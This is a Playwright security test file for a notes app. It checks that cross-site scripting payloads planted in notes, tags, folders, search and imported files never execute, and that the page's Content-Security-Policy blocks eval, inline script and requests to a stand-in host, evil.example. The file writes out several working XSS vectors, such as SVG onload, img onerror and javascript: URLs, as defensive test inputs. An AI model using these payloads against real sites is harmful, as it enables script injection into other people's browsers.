import { expect, test, type Page } from "playwright/test";
import { VECTORS } from "./fixtures/vectors.ts";
import { run } from "./tabs-helpers.ts";

test.describe.configure({ timeout: 180_000 });

/** What an attack would leave behind. */
const traces = (page: Page) =>
  run<{ pwned: unknown; violations: string[] }>(page, "return { pwned: window.pwned ?? null, violations: window.violations }");

async function watched(page: Page): Promise<{ dialogs: string[]; elsewhere: string[] }> {
  const seen = { dialogs: [] as string[], elsewhere: [] as string[] };
  page.on("dialog", (dialog) => {
    seen.dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  page.on("request", (request) => {
    const url = new URL(request.url());
    if (!["localhost", ""].includes(url.hostname)) seen.elsewhere.push(request.url());
  });
  await page.addInitScript(`
    window.violations = [];
    addEventListener("securitypolicyviolation", (event) => window.violations.push(event.violatedDirective + " " + event.blockedURI));
  `);
  return seen;
}

/** Every vector as name, text, folder and tag of a note of its own; and as front matter, file names and pictures of an import. */
const plant = (page: Page) =>
  run<{ ids: string[]; refused: string[] }>(
    page,
    `
    const vectors = ${JSON.stringify(VECTORS)};
    await atelier.ready;
    await atelier.mutate([{ name: "setting.set", args: { key: "started", value: true } }]);
    const ids = [], refused = [];
    for (const [i, vector] of vectors.entries()) {
      const line = vector.replaceAll("\\n", " ");
      const [outcome] = await atelier.mutate([{ name: "note.create", args: {
        id: "v" + i, name: line, folder: line.replaceAll("/", "⁄"), content: vector + "\\n\\n[[" + line + "]] #" + line + "\\n\\n" + vector,
      } }]);
      const [tagged] = await atelier.mutate([{ name: "node.update", args: { id: "v" + i, tags: [line], is_favorite: true } }]);
      if (outcome.ok) ids.push("v" + i);
      for (const one of [outcome, tagged]) if (!one.ok) refused.push(one.error.type + ": " + one.error.message);
    }
    const svg = "<svg xmlns='http://www.w3.org/2000/svg' onload='top.pwned=1'><script>top.pwned=1</script><foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' src='javascript:top.pwned=1'/></foreignObject></svg>";
    const files = [
      new File([svg], "evil.svg"), new File(["<script>top.pwned=1</script>"], "evil.html"), new File([svg], "x.png"),
      new File(["---\\ntitle: \\"<img src=x onerror=window.pwned=1>\\"\\ntags: [\\"<svg onload=window.pwned=1>\\"]\\naliases: [\\"<script>window.pwned=1</script>\\", \\"javascript:window.pwned=1\\"]\\nurl: javascript:window.pwned=1\\n---\\n![[evil.svg]] ![[evil.html]] ![[x.png]] ![x](evil.svg)"], "<img src=x onerror=window.pwned=1>.md"),
    ];
    await atelier.task("import.files", { batch: "evil", files });
    return { ids: [...ids, ...(await atelier.query("node.list", { limit: 5, sort: "created_at" })).rows.map((row) => row.id)], refused };
  `,
  );

test("SC1: no script of what people write, import or name runs anywhere in the app", async ({ page }) => {
  const seen = await watched(page);
  await page.goto("/notes");
  const { ids, refused } = await plant(page);
  expect(ids.length).toBeGreaterThanOrEqual(60);
  for (const sentence of refused) expect(sentence).toMatch(/^[A-Z]\w+: .*\.$/s);
  const paths = ["/", "/notes", "/trash", "/settings", "/diagnostics", "/graph", ...ids.map((id) => `/notes/${id}`), `/history/${ids[0]}`];
  for (const [i, path] of paths.entries()) {
    await page.evaluate((to) => {
      history.pushState(null, "", to);
      dispatchEvent(new PopStateEvent("popstate"));
    }, path);
    await page.waitForTimeout(i < 6 ? 800 : 80);
    expect(await traces(page), path).toEqual({ pwned: null, violations: [] });
  }
  expect(seen).toEqual({ dialogs: [], elsewhere: [] });
});

test("SC1: nor while it is looked for, listed by folder and tag, or its links are followed", async ({ page }) => {
  const seen = await watched(page);
  await page.goto("/notes");
  await plant(page);
  await page.keyboard.press("Control+k");
  for (const text of ["pwned", "<img src=x onerror=window.pwned=1>", "javascript:"]) {
    await page.getByRole("combobox", { name: "Search everything" }).fill(text);
    await page.waitForTimeout(400);
  }
  expect(await traces(page)).toEqual({ pwned: null, violations: [] });
  await page.keyboard.press("Escape");
  for (const vector of ["<img src=x onerror=window.pwned=1>", "javascript:window.pwned=1"]) {
    await page.goto(`/notes?folder=${encodeURIComponent(vector)}&tag=${encodeURIComponent(vector)}`);
    await page.waitForTimeout(400);
    expect(await traces(page)).toEqual({ pwned: null, violations: [] });
  }
  const linked = VECTORS.findIndex((vector) => vector === "[x](javascript:window.pwned=1)");
  await page.goto(`/notes/v${linked}`);
  const content = page.getByRole("textbox", { name: "Content" });
  await content.waitFor();
  for (const link of await content.locator("a, [class*=link]").all())
    await link.click({ timeout: 2000, modifiers: ["Control"] }).catch(() => undefined);
  expect(await traces(page)).toMatchObject({ pwned: null });
  expect(seen).toEqual({ dialogs: [], elsewhere: [] });
});

test("SC2: the page runs under a policy without inline, eval or another origin, with Trusted Types", async ({ page }) => {
  const response = await page.goto("/");
  const policy = response!.headers()["content-security-policy"]!;
  expect(policy).toContain("default-src 'none'");
  expect(policy).toContain("require-trusted-types-for 'script'");
  expect(policy).not.toMatch(/unsafe-inline|'unsafe-eval'|https?:|\*/);
  const inPage = await run<string>(page, `return document.querySelector("meta[http-equiv=Content-Security-Policy]").content`);
  expect(inPage).toBe(policy.replace("; frame-ancestors 'none'", ""));
  const outcome = await run<Record<string, string>>(
    page,
    `
    // What the developer tools run at once is above the policy; from here on it is the page's own.
    await new Promise((resolve) => setTimeout(resolve, 20));
    const attempt = (work) => { try { work(); return "done"; } catch (error) { return error.name; } };
    return {
      html: attempt(() => { document.createElement("div").innerHTML = "<img src=x onerror=window.pwned=1>"; }),
      evaluated: attempt(() => (0, eval)("window.pwned = 1")),
      made: attempt(() => new Function("window.pwned = 1")()),
      worker: attempt(() => new Worker("https://evil.example/x.js")),
      fetched: await fetch("https://evil.example/").then(() => "done", (error) => error.name),
      pwned: String(window.pwned),
    };
  `,
  );
  expect(outcome).toEqual({
    html: "TypeError",
    evaluated: "EvalError",
    made: "EvalError",
    worker: "TypeError",
    fetched: "TypeError",
    pwned: "undefined",
  });
});
